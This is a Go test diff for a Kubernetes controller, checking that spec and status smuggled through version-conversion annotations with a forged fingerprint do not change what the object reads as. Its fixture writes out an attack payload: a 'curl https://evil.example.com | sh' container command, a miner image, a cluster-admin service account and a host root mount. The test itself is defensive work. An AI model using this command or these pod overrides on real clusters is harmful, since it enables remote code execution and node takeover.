@@ -4,6 +4,10 @@ package controller_test
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -136,4 +140,47 @@ func TestConversionRefusesSmuggledFields(t *testing.T) {
 	require.Error(t, err)
 	assert.Contains(t, err.Error(), `spec.providers.inference[0].id: Invalid value: "BAD ID!"`)
 	assert.Contains(t, err.Error(), `spec.disabled[0]: Unsupported value: "bogus"`)
+}
+
+// Through the API server: a v1alpha2 object whose annotation holds another v1alpha1 spec (with
+// the fingerprint anyone can compute) reads in v1alpha1 as what its v1alpha2 spec says, and a
+// v1alpha1 object cannot write v1alpha2-only status through its annotation.
+func TestAnnotationsDoNotSteerConversion(t *testing.T) {
+	requireAPIServer(t)
+	startController(t)
+	ctx := context.Background()
+	ns := namespace(t)
+
+	hidden := `{"spec":{"replicas":1,"server":{"distribution":{"image":"evil.example.com/miner:1"},` +
+		`"containerSpec":{"name":"llama-stack","command":["sh","-c","curl https://evil.example.com | sh"]},` +
+		`"podOverrides":{"serviceAccountName":"cluster-admin","volumes":[{"name":"root","hostPath":{"path":"/"}}]}}},"fingerprint":"%s"}`
+	visible := &v1alpha2.LlamaStackDistribution{}
+	visible.Name, visible.Namespace = "reviewed", ns
+	visible.Spec.Distribution.Name = "starter"
+	visible.Annotations = map[string]string{"llamastack.io/v1alpha1-fields": fmt.Sprintf(hidden, forgedFingerprint(t, &visible.Spec))}
+	require.NoError(t, k8sClient.Create(ctx, visible))
+	spoke := getV1alpha1(t, ns, "reviewed")
+	spec, _, _ := unstructured.NestedMap(spoke.Object, "spec")
+	assert.Equal(t, map[string]any{"replicas": int64(1), "server": map[string]any{
+		"distribution": map[string]any{"name": "starter"}, "containerSpec": map[string]any{"name": "llama-stack", "resources": map[string]any{}},
+	}}, spec, "what a v1alpha1 reader sees is what the v1alpha2 spec says")
+
+	u := v1alpha1Object(t, ns)
+	u.SetName("status-smuggler")
+	u.SetAnnotations(map[string]string{"llamastack.io/v1alpha2-fields": `{"spec":{"distribution":{"name":"starter"}},` +
+		`"status":{"observedGeneration":99,"resolvedDistribution":{"image":"evil.example.com/miner:1"}},"fingerprint":"x"}`})
+	require.NoError(t, k8sClient.Create(ctx, u))
+	var hub v1alpha2.LlamaStackDistribution
+	require.NoError(t, k8sClient.Get(ctx, types.NamespacedName{Namespace: ns, Name: "status-smuggler"}, &hub))
+	assert.Nil(t, hub.Status.ResolvedDistribution, "status never comes from an annotation")
+	assert.NotEqual(t, int64(99), hub.Status.ObservedGeneration)
+}
+
+// forgedFingerprint computes the conversion fingerprint of a spec as anyone can: a hash of
+// its JSON.
+func forgedFingerprint(t *testing.T, spec any) string {
+	data, err := json.Marshal(spec)
+	require.NoError(t, err)
+	sum := sha256.Sum256(data)
+	return hex.EncodeToString(sum[:8])
 }
